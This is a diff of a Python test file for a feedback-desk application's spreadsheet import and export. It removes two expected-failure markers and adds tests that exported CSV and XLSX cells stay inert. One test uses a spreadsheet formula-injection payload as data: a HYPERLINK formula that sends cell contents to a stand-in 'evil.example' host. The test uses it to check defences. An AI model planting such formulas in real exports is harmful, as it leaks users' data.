@@ -140,8 +140,6 @@ def test_reimport_of_own_export_finds_every_entry_unchanged(svc: Services, event
             if n.code == "stored_differs"] == []
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: values.neutralise leaves \"''=x\" unchanged but "
-                   "unneutralise strips one quote from it: a stored \"''=x\" comes back as \"'=x\"")
 def test_double_quote_prefix_survives_the_round_trip(svc: Services, event, tmp_path: Path
                                                      ) -> None:  # type: ignore[no-untyped-def]
     svc.entries.record(new_entry(event.id, text="''=1+1 is how Excel escapes it",
@@ -189,8 +187,6 @@ def test_xlsx_personal_cells_written_as_text_not_numbers(svc: Services, event: o
     assert cells["0012345678901234567"] == "s" and cells["081234567890"] == "s"
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: export._xlsx lets openpyxl type a text equal to an "
-                   "Excel error code (#N/A, #REF!…) as an error cell instead of a string")
 def test_xlsx_export_writes_every_value_as_a_string_cell(svc: Services, event, tmp_path: Path
                                                          ) -> None:  # type: ignore[no-untyped-def]
     svc.entries.record(new_entry(event.id, text="#N/A", summary="#REF!"))
@@ -201,3 +197,80 @@ def test_xlsx_export_writes_every_value_as_a_string_cell(svc: Services, event, t
     types = {(c.value, c.data_type) for r in load_workbook(target).active.iter_rows() for c in r
              if c.value is not None}
     assert {t for _v, t in types} == {"s"}, sorted(types, key=str)
+
+
+def test_xlsx_export_of_xml_forbidden_characters_is_a_readable_workbook(
+        svc: Services, event: object, tmp_path: Path) -> None:
+    path = write_csv(tmp_path / "nc.csv", [row(1, text="tanda \uffff aneh \ufffe di sini",
+                                               summary="ringkas \uffff")], HEAD_S)
+    _import(svc, path)  # import removes them (noted) …
+    assert "\uffff" not in svc.entries.get(svc.search.ids(EntryQuery())[0]).text
+    svc.entries.record(new_entry(event.id, text="tanda \uffff aneh \ufffe di sini",
+                                 summary="ringkas \uffff"))  # … but recording keeps them
+    target = tmp_path / "out.xlsx"
+    result = svc.interchange.export(target, EntryQuery())
+    from openpyxl import load_workbook
+
+    load_workbook(target)  # Excel and our own reader refuse a workbook that is not XML
+    assert svc.interchange.preview(target).count("present") == 2
+    assert result.replaced_characters == 3
+
+
+def test_event_and_session_names_with_double_spaces_round_trip(
+        svc: Services, tmp_path: Path) -> None:
+    ev = svc.catalog.create_event("Simposium  PMI   2026")
+    panel = svc.catalog.create_session(ev.id, "Panel  1")
+    svc.entries.record(new_entry(ev.id, session_id=panel.id))
+    target = tmp_path / "out.csv"
+    svc.interchange.export(target, EntryQuery())
+    preview = svc.interchange.preview(target)
+    assert preview.events_to_create == () and preview.sessions_to_create == ()
+    assert [n.text() for r in preview.rows for n in r.notes] == []
+
+
+def test_csv_read_with_a_semicolon_list_separator_has_no_formula_cell(
+        svc: Services, event, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """Excel opens a .csv with the system's list separator: ';' in Indonesia (INTERCHANGE.md).
+    ``csv.reader(delimiter=';')`` reads it the same way: a quote counts only at a cell's start,
+    so our quotes around 'a,b' do not protect a ';' or a line break inside."""
+    import csv
+
+    for i, text in enumerate(['Lihat;=HYPERLINK("http://evil.example/?"&A1&M1,"info")',
+                              "baris satu\n=1+1", "a;+SUM(1)", "x;@SUM(1)"]):
+        svc.entries.record(new_entry(event.id, text=text, summary=f"s{i}"))
+    target = tmp_path / "out.csv"
+    svc.interchange.export(target, EntryQuery(), personal=True)
+    with open(target, encoding="utf-8-sig", newline="") as handle:
+        cells = [c for r in csv.reader(handle, delimiter=";") for c in r]
+    assert [c for c in cells if c.startswith(FORMULA_START)] == []
+
+
+@pytest.mark.parametrize("boundary", ["=1+1", "'=1+1", "  spaces", "@x", "\n=2"],
+                         ids=["formula", "quoted", "spaces", "at", "newline"])
+def test_a_long_text_split_over_xlsx_cells_comes_back_whole(
+        svc: Services, event, clock: Any, tmp_path: Path,  # type: ignore[no-untyped-def]
+        boundary: str) -> None:
+    """Every continuation cell (text_2…) starts with something hostile; the text, 100,000
+    characters with astral ones, is the same after export → import into an empty database."""
+    from feedback_desk.core.interchange.columns import XLSX_PART
+
+    chunks = ["awal " + "𝔸" * (XLSX_PART - 5)]
+    chunks += [boundary + "ü" * (XLSX_PART - len(boundary)) for _ in range(6)]
+    text = "".join(chunks)[:100_000 - 1] + "."
+    assert all(text[k * XLSX_PART:].startswith(boundary) for k in range(1, 7))
+    svc.entries.record(new_entry(event.id, text=text))
+    target = tmp_path / "long.xlsx"
+    result = svc.interchange.export(target, EntryQuery())
+    assert result.over_excel_limit == 1
+    _assert_xlsx_inert(target)
+    (cells,) = _table(target)
+    guarded = "'" + boundary if boundary[0] in "=@'" else boundary
+    assert {cells[f"text_{n}"][:len(guarded)] for n in range(2, 8)} == {guarded}
+    other = open_database(f"sqlite:///{tmp_path / 'other.sqlite'}")
+    try:
+        them = Services.connect(other, "sari", roles="supervisor protection", clock=clock)
+        _import(them, target)
+        (entry,) = them.search.rows(them.search.ids(EntryQuery()))
+        assert them.entries.get(entry.id).text == text
+    finally:
+        other.dispose()
